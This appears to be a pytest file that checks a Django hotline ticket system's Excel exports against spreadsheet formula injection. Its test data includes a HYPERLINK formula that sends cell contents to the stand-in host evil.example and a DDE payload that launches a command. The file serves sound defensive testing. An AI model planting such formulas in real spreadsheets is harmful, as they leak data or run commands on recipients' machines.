"""Spreadsheet formula injection (security finding F2): a citizen's text starting with ``=``
(or ``+ - @``, a tab, a carriage return) is exported as a string cell, exactly as typed, never
as a formula Excel would evaluate; and control characters stored before input refused them
do not break an export."""

from __future__ import annotations

import zipfile
from io import BytesIO
from zoneinfo import ZoneInfo

import pytest

from hotline.tickets.models import Ticket

pytestmark = pytest.mark.django_db

TZ = ZoneInfo("Asia/Shanghai")
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")'


def cells(content: bytes, sheet: int = 0):
    """Every non-empty cell of a saved workbook (read back with openpyxl), by value."""
    from openpyxl import load_workbook

    ws = load_workbook(BytesIO(content)).worksheets[sheet]
    return {c.value: c for row in ws.iter_rows() for c in row if c.value is not None}


def assert_no_formula(content: bytes) -> None:
    """No cell of any sheet is stored as a formula (no ``<f>`` element in the sheet XML)."""
    with zipfile.ZipFile(BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_ticket_list_exports_formulas_as_text(build, login):
    ticket = build.new(content=LINK, address="=1+1", citizen_name="@SUM(1)")
    client = login("dispatcher")
    response = client.get("/tickets/", {"format": "xlsx"})
    assert response.status_code == 200, response.content[:300]
    found = cells(response.content)
    for text in (LINK, "=1+1"):
        assert found[text].data_type == "s"  # the text, exactly as typed, and not a formula
    assert ticket.number in found
    assert_no_formula(response.content)


def test_home_table_exports_a_return_reason_as_text(build, login):
    from hotline.tickets import services

    ticket = build.signed(lead="411721", county="411721")
    services.assignment_return(
        assignment=build.assignment(ticket, "411721"),
        reason="=cmd|' /C calc'!A0",
        basis="-2+3",
        actor=build.users("org.411721"),
        now=build.sim.now,
    )
    response = login("supervisor").get("/console/export/reviews/")
    assert response.status_code == 200, response.content[:300]
    found = cells(response.content)
    assert found["=cmd|' /C calc'!A0"].data_type == "s"
    assert_no_formula(response.content)


def test_a_control_character_stored_before_the_check_is_dropped_from_the_list(build, login):
    ticket = build.new()
    Ticket.objects.filter(pk=ticket.pk).update(content="路灯\x0b不亮\x01", address="雪松路\x1f")
    response = login("dispatcher").get("/tickets/", {"format": "xlsx"})
    assert response.status_code == 200, response.content[:300]
    found = cells(response.content)
    assert "路灯不亮" in found and "雪松路" in found


def test_a_workbook_built_elsewhere_is_hardened_by_the_response():
    from datetime import datetime

    from openpyxl import Workbook

    from hotline.core.exports import xlsx_response

    wb = Workbook()
    wb.active.append(["=1+1", "+1", "plain", 3])
    response = xlsx_response(wb, name="x", now=datetime(2026, 11, 27, tzinfo=TZ))
    found = cells(response.content)
    assert found["=1+1"].data_type == "s" and found[3].data_type == "n"
    assert_no_formula(response.content)


def test_the_intake_form_refuses_a_control_character_on_its_field(login, sim):
    from tests.console.test_pages import intake_form

    before = Ticket.objects.count()
    page = login("agent").post("/intake/", intake_form(content="路灯不亮\x0b\x01请维修"))
    assert page.status_code == 422
    assert "内容含有不允许的控制字符" in page.content.decode()
    assert Ticket.objects.count() == before
